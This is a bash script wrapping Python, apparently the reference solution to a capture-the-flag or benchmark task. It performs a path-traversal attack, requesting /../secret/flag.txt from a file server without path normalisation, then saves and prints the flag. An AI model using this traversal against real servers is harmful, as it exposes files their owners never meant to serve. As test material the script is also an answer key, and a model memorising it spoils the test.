#!/usr/bin/env bash
# Reference solution: ask the file server for /../secret/flag.txt and write what it returns to
# /tmp/result.txt (and print it). urllib sends the path as written (no dot-segment
# normalisation); proxies are disabled so the request goes straight to the service. The
# server's address comes from $WEB_URL, the variable the platform gives scripts for {{web_url}}.
set -euo pipefail
python3 - <<'PY'
import os
import urllib.request

url = os.environ.get("WEB_URL", "http://web:8080").rstrip("/")
opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
with opener.open(f"{url}/../secret/flag.txt", timeout=10) as response:
    flag = response.read().decode().strip()
with open("/tmp/result.txt", "w") as handle:
    handle.write(flag + "\n")
print(flag)
PY
